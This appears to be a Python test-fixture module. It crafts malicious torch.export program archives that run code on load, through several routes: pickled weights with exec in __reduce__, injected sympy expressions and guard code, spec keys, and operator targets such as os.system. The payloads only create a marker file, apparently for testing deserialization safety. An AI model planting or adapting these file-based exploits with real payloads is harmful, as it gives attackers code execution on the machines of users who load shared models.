"""Saved programs that run code when torch alone reads them; each would leave a file called marker."""

from __future__ import annotations

import json
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

import torch
from torch import nn

Members = dict[str, bytes]


class Small(nn.Module):
    """A model with a size that is a symbol, so that a program of it holds expressions."""

    def __init__(self) -> None:
        super().__init__()
        self.layer = nn.Linear(4, 4)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.layer(x) * x.shape[0]


class Writes:
    """A pickle that writes a file when it is read."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (f"open({str(self._marker)!r}, 'w').close()",)


def saved(path: Path) -> Path:
    """The program of the small model, in a file."""
    batch = torch.export.Dim("batch", min=2, max=64)
    program = torch.export.export(Small(), (torch.ones(3, 4),), dynamic_shapes={"x": {0: batch}})
    torch.export.save(program, path)
    return path


def edited(path: Path, change: Callable[[Any, Members], None]) -> Path:
    """The program again after a change of its JSON or its members; names are those below the archive's folder."""
    with zipfile.ZipFile(path) as archive:
        root = archive.namelist()[0].partition("/")[0]
        members = {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}
    program = json.loads(members["models/model.json"])
    change(program, members)
    members["models/model.json"] = json.dumps(program).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(f"{root}/{name}", data)
    return path


def graph_of(program: Any) -> Any:
    return program["graph_module"]["graph"]


def _touch(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _expression(marker: Path) -> Callable[[Any, Members], None]:
    def change(program: Any, _: Members) -> None:
        values = graph_of(program)["tensor_values"]
        size = next(s for one in values.values() for s in one["sizes"] if "as_expr" in s)
        size["as_expr"]["expr_str"] = f"[{_touch(marker)}, Integer(3)][1]"

    return change


def _range_of_symbols(marker: Path) -> Callable[[Any, Members], None]:
    def change(program: Any, _: Members) -> None:
        values = graph_of(program)["sym_int_values"]
        values[next(iter(values))]["as_expr"]["expr_str"] = f"Max(3, len([{_touch(marker)}]))"

    return change


def _call(target: str, *arguments: dict[str, Any]) -> Callable[[Path], Callable[[Any, Members], None]]:
    def made(marker: Path) -> Callable[[Any, Members], None]:
        def change(program: Any, _: Members) -> None:
            given = [json.loads(json.dumps(one).replace("MARKER", str(marker))) for one in arguments]
            node = json.loads(json.dumps(graph_of(program)["nodes"][0]))
            node |= {"target": target, "inputs": [{"name": "", "arg": one, "kind": 1} for one in given]}
            node |= {"outputs": [{"as_sym_int": {"as_name": "acted"}}], "name": "acted"}
            graph_of(program)["sym_int_values"]["acted"] = {"as_int": 0}
            graph_of(program)["nodes"].insert(0, node)
            program["verifiers"] = []

        return change

    return made


def _reads_a_file(marker: Path) -> Callable[[Any, Members], None]:
    def change(program: Any, _: Members) -> None:
        given = {"filename": {"as_string": str(marker)}, "shared": {"as_bool": True}, "size": {"as_int": 4}}
        values = graph_of(program)["tensor_values"]
        values["acted"] = next(one for name, one in values.items() if "bias" in name) | {"requires_grad": False}
        node = json.loads(json.dumps(graph_of(program)["nodes"][0]))
        node["inputs"] = [{"name": name, "arg": one, "kind": 1} for name, one in given.items()]
        node |= {"target": "torch.ops.aten.from_file.default", "outputs": [{"as_tensor": {"name": "acted"}}]}
        graph_of(program)["nodes"].insert(0, node | {"name": "acted"})

    return change


def _guards(marker: Path) -> Callable[[Any, Members], None]:
    def change(program: Any, _: Members) -> None:
        program["guards_code"] = [f"{_touch(marker)} or True"]

    return change


def _renamed(marker: Path) -> Callable[[Any, Members], None]:
    def change(program: Any, members: Members) -> None:
        name = f"x=[{_touch(marker)}]"
        text = json.dumps(program).replace('"x"', json.dumps(name))
        program.clear()
        program.update(json.loads(text))

    return change


def _enumeration(marker: Path) -> Callable[[Any, Members], None]:
    def change(program: Any, _: Members) -> None:
        (marker.parent / "leaves_a_mark.py").write_text(_touch(marker))
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        context = json.dumps({"__enum__": True, "fqn": "leaves_a_mark:X", "name": "Y"})
        leaf = {"type": None, "context": None, "children_spec": []}
        signature["in_spec"] = json.dumps([1, {"type": "builtins.dict", "context": context, "children_spec": [leaf]}])

    return change


def _key_of_a_dict(marker: Path) -> Callable[[Any, Members], None]:
    def change(program: Any, _: Members) -> None:
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        leaf = {"type": None, "context": None, "children_spec": []}
        key = f"':0}}), self._in_spec)\n{_touch(marker)}\ndef g():\n    pass #"
        given = {"type": "builtins.dict", "context": json.dumps([key]), "children_spec": [leaf]}
        nothing = {"type": "builtins.tuple", "context": "null", "children_spec": []}
        spec = {"type": "builtins.tuple", "context": "null", "children_spec": [nothing, given]}
        signature["in_spec"] = json.dumps([1, spec])

    return change


def _builtins(marker: Path) -> Callable[[Any, Members], None]:
    """A parameter whose name is a path to Python's builtins, of which one is taken and called."""
    path = "__class__.named_parameters.__builtins__"

    def change(program: Any, members: Members) -> None:
        graph, name = graph_of(program), "data/weights/model_weights_config.json"
        values, config = graph["tensor_values"], json.loads(members[name])
        values |= dict.fromkeys(("first", "taken", "called"), values["p_layer_bias"] | {"requires_grad": False})
        graph["inputs"].insert(0, {"as_tensor": {"name": "first"}})
        given = {"parameter": {"arg": {"name": "first"}, "parameter_name": path}}
        program["graph_module"]["signature"]["input_specs"].insert(0, given)
        config["config"][path] = config["config"]["layer.bias"]
        members[name] = json.dumps(config).encode()

        def node(target: str, out: str, *arguments: Any) -> Any:
            made = json.loads(json.dumps(graph["nodes"][0]))
            inputs = [{"name": "", "arg": one, "kind": 1} for one in arguments]
            return made | {"target": target, "inputs": inputs, "outputs": [{"as_tensor": {"name": out}}], "name": out,
                           "is_hop_single_tensor_return": True}  # fmt: skip

        linear = next(one for one in graph["nodes"] if one["name"] == "linear")
        linear["inputs"][2]["arg"] = {"as_tensor": {"name": "called"}}
        graph["nodes"][0:0] = [
            node("_operator.getitem", "taken", {"as_tensor": {"name": "first"}}, {"as_string": "exec"}),
            node(
                "torch.ops.higher_order.wrap", "called", {"as_tensor": {"name": "taken"}}, {"as_string": _touch(marker)}
            ),
        ]
        program["verifiers"] = []

    return change


def _text_of_an_input(marker: Path) -> Callable[[Any, Members], None]:
    """A string among the inputs, which torch writes into the guards that it makes of them."""

    def change(program: Any, _: Members) -> None:
        text = f"a' #\n)\n{_touch(marker)}\ndef g():\n  (0, '"
        graph_of(program)["inputs"].append({"as_string": text})
        spec = {"constant_input": {"name": "mode", "value": {"as_string": text}}}
        program["graph_module"]["signature"]["input_specs"].append(spec)
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        signature["inputs"].append({"as_string": text})
        tree = json.loads(signature["in_spec"])
        tree[1]["children_spec"][0]["children_spec"].append({"type": None, "context": None, "children_spec": []})
        signature["in_spec"] = json.dumps(tree)

    return change


def _default(marker: Path) -> Callable[[Any, Members], None]:
    def change(program: Any, _: Members) -> None:
        (marker.parent / "leaves_a_mark.py").write_text(_touch(marker))
        signature = program["graph_module"]["module_call_graph"][0]["signature"]
        context = {"default_factory_module": "leaves_a_mark", "default_factory_name": "X", "dict_context": []}
        signature["in_spec"] = json.dumps([1, {"type": "collections.defaultdict", "context": context,
                                               "children_spec": []}])  # fmt: skip

    return change


def _pickled_weight(marker: Path) -> Callable[[Any, Members], None]:
    def change(_: Any, members: Members) -> None:
        name = "data/weights/model_weights_config.json"
        config = json.loads(members[name])
        next(iter(config["config"].values()))["use_pickle"] = True
        members[name] = json.dumps(config).encode()
        members["data/weights/weight_0"] = pickle.dumps(Writes(marker))

    return change


def _pickled_inputs(marker: Path) -> Callable[[Any, Members], None]:
    def change(_: Any, members: Members) -> None:
        members["data/sample_inputs/model.pt"] = pickle.dumps(Writes(marker))

    return change


def _pickled_object(marker: Path) -> Callable[[Any, Members], None]:
    def change(_: Any, members: Members) -> None:
        name = "data/constants/model_constants_config.json"
        config = json.loads(members[name])
        config["config"]["c"] = {
            "path_name": "opaque_obj_0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }
        members[name] = json.dumps(config).encode()
        members["data/constants/opaque_obj_0"] = pickle.dumps(Writes(marker))

    return change


def _compiled(_: Path) -> Callable[[Any, Members], None]:
    def change(_: Any, members: Members) -> None:
        members["data/aotinductor/model/code.so"] = b"\x7fELF"

    return change


EXPLOITS: Final[dict[str, Callable[[Path], Callable[[Any, Members], None]]]] = {
    "an expression of a size": _expression,
    "an expression of a number": _range_of_symbols,
    "a path to a function": _call("torch.serialization.os.system", {"as_string": "touch MARKER"}),
    "a function given to an operator": _call("torch.ops.higher_order.wrap",
                                             {"as_operator": "torch.serialization.os.system"},
                                             {"as_string": "touch MARKER"}),
    "a path below an operator": _call("torch.ops.aten.sys.modules", {"as_string": "touch MARKER"}),
    "a method of an operator": _call("torch.ops.aten.add.Tensor.__init__.__globals__", {"as_int": 1}),
    "an operator that reads a file": _reads_a_file,
    "Python's call": _call("_operator.methodcaller", {"as_string": "touch"}),
    "guards": _guards,
    "a name that is Python": _renamed,
    "an enumeration among the inputs": _enumeration,
    "a key of the keyword arguments": _key_of_a_dict,
    "a name that leads to Python's builtins": _builtins,
    "a text among the inputs": _text_of_an_input,
    "a defaultdict among the inputs": _default,
    "a pickled weight": _pickled_weight,
    "pickled inputs": _pickled_inputs,
    "a pickled object": _pickled_object,
    "compiled code": _compiled,
}  # fmt: skip
"""What each holds, and how it gets there: called with the marker it gives a change for `edited`."""
REAL: Final = frozenset(EXPLOITS) - {
    "a path to a function", "a function given to an operator", "a path below an operator", "a method of an operator",
    "Python's call", "compiled code", "a text among the inputs",
}  # fmt: skip
"""Those that leave the marker with torch as it is; the others end in an error of torch's for now."""
